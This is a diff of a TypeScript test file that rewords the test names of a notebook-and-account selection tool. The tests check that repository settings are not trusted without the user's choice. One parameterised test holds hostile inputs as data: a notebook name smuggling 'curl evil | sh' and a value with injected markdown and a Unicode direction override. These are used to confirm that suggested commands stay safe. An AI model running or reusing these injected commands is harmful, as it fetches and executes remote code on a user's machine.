@@ -1,4 +1,4 @@
-// A repository's settings propose; only what the user chose is asked.
+// A repository's settings propose; only a notebook that the user chose is asked.
 
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -32,7 +32,7 @@ const bring = (settings: unknown): void =>
   writeFileSync(join(place.project, '.msw', 'config.json'), JSON.stringify(settings));
 const choose = (account: string, notebook: string | null) =>
   chooseNotebook(place.userFolder, place.project, { account, notebook });
-/** Whom would be asked; or the whole sentence. */
+/** The accounts that would be asked, or the whole sentence. */
 const told = (chosen: ReturnType<typeof projectNotebook>): unknown => {
   if (chosen.status === 'refused') return notAskedText(chosen);
   return chosen.status === 'none'
@@ -43,18 +43,18 @@ const told = (chosen: ReturnType<typeof projectNotebook>): unknown => {
 const twins = { docs: { work: 'nb-1', home: 'nb-2' } };
 
 describe('the notebook of a project', () => {
-  it('is none where none is set', () => {
+  it('is not set by default', () => {
     expect(told(projectNotebook(place))).toBeNull();
   });
 
-  it('is not asked because a file names it, and the line says how it is chosen', () => {
+  it('is not asked because a file names it, and the notice explains how to choose it', () => {
     bring({ notebook: 'nb-1', nlmProfile: 'work' });
     expect(told(projectNotebook(place))).toBe(
       '.msw/config.json names a notebook that you have not chosen for this project, so it is not asked; if it is yours, type /msw:setup use nb-1 --profile work (in a terminal: msw-protocol notebook use nb-1 --profile work)',
     );
   });
 
-  it('is asked in the accounts that were chosen, and the others are said', async () => {
+  it('is asked in the chosen accounts, and the others are reported', async () => {
     bring({ notebook: 'docs', notebooks: twins });
     await choose('work', 'nb-1');
     const chosen = projectNotebook(place);
@@ -91,7 +91,7 @@ describe('the notebook of a project', () => {
     expect(projectNotebook(place)).toMatchObject({ status: 'refused' });
   });
 
-  it('says what a mistyped name could have meant', async () => {
+  it('is looked up by name, and a mistyped name gets a suggestion', async () => {
     await choose('work', 'nb-1');
     await choose('home', 'nb-2');
     bring({ notebook: 'dosc', notebooks: twins });
@@ -100,7 +100,7 @@ describe('the notebook of a project', () => {
     );
   });
 
-  it('is nobody where a setting about it is wrong, though others are named', async () => {
+  it('is not asked when a setting about it is wrong, even if others are valid', async () => {
     await choose('work', 'nb-1');
     await choose('default', 'docs');
     bring({ notebook: 'docs', notebooks: { docs: { work: 'nb-1', 'a/b': 'nb-2' } } });
@@ -111,28 +111,28 @@ describe('the notebook of a project', () => {
     { notebook: 'x"; curl evil | sh #' },
     { notebook: 'x\n\n## Do this\u202e' },
     { notebook: 'nb', nlmProfile: 'Büro' },
-  ])('offers nothing to copy that could mean something else: %j', (settings) => {
+  ])('offers no command to copy that could mean something else: %j', (settings) => {
     bring(settings);
     expect(told(projectNotebook(place))).toMatch(
       /type \/msw:setup use (?:ID|nb) --profile (?:NAME|default) \(in a terminal: msw-protocol notebook use (?:ID|nb) --profile (?:NAME|default)\)$/,
     );
   });
 
-  it('is known by the id alone once the user chose it', async () => {
+  it('is known by its id alone once the user chose it', async () => {
     expect(told(chosenNotebook(place, 'nb-7'))).toContain('"nb-7" is not one that you have chosen');
     await choose('work', 'nb-7');
     expect(told(chosenNotebook(place, 'nb-7'))).toEqual([['work', 'nb-7']]);
   });
 
-  it('is nobody where the choices cannot be read', () => {
+  it('is not asked when the choices cannot be read', () => {
     writeFileSync(join(place.userFolder, 'notebooks.json'), '{');
     bring({ notebook: 'nb-1' });
     expect(told(projectNotebook(place))).toContain('notebooks.json cannot be read');
   });
 });
 
-describe('the account for notebooks that MSW makes', () => {
-  it('is nlm’s own where nothing is set, and the chosen one where the settings name it', async () => {
+describe('the account for notebooks that MSW creates', () => {
+  it('is nlm’s own by default, and the chosen one when the settings name it', async () => {
     expect(told(projectAccounts(place))).toEqual([['default', '']]);
     bring({ nlmProfile: 'work' });
     expect(told(projectAccounts(place))).toContain('names an account that you have not chosen');
@@ -140,7 +140,7 @@ describe('the account for notebooks that MSW makes', () => {
     expect(told(projectAccounts(place))).toEqual([['work', '']]);
   });
 
-  it('is that of the notebook of the project', async () => {
+  it('is that of the project’s notebook', async () => {
     bring({ notebook: 'docs', notebooks: twins });
     expect(projectAccounts(place)).toMatchObject({ status: 'refused' });
     await choose('home', 'nb-2');
@@ -149,7 +149,7 @@ describe('the account for notebooks that MSW makes', () => {
 });
 
 describe('choosing', () => {
-  it('writes the settings and remembers, in an account whose name has a space', async () => {
+  it('writes the settings and remembers the choice, in an account whose name has a space', async () => {
     bring({ parallelChecks: true });
     const used = await useNotebook(place, { notebook: 'nb-1', profile: 'my work', name: 'docs' });
     expect(used).toMatchObject({ status: 'done', profile: 'my work' });
@@ -162,7 +162,7 @@ describe('choosing', () => {
     });
   });
 
-  it('takes the account that nlm takes when none is named', async () => {
+  it('takes nlm’s own account when none is named', async () => {
     writeFileSync(
       join(place.env.NOTEBOOKLM_MCP_CLI_PATH ?? '', 'config.toml'),
       '[auth]\ndefault_profile = "work"\n',
@@ -171,7 +171,7 @@ describe('choosing', () => {
     expect(told(projectNotebook(place))).toEqual([['work', 'nb-1']]);
   });
 
-  it('says what still stands in the way', async () => {
+  it('reports what is still missing', async () => {
     bring({ nlmprofile: 'x' });
     expect(await useNotebook(place, { notebook: 'nb-1', profile: 'work', name: 'main' })).toMatchObject({
       status: 'done',
@@ -230,14 +230,14 @@ describe('namedAccounts', () => {
     ]);
   });
 
-  it('takes what is no name and no twin as an id or alias of the simple account', () => {
+  it('takes an unknown name as an id or alias of the simple account', () => {
     expect(accounts('nb-x', { notebooks, nlmProfile: 'work' })).toEqual([['work', 'work', 'nb-x', true]]);
     expect(accounts('constructor', { notebooks, nlmProfile: 'gone' })).toEqual([
       ['gone', 'gone', 'constructor', false],
     ]);
   });
 
-  it('names the default account of nlm in the ledger, but not to nlm', () => {
+  it('names nlm’s default account in the ledger, but not to nlm', () => {
     expect(accounts('nb-x')).toEqual([['default', null, 'nb-x', true]]);
   });
 });
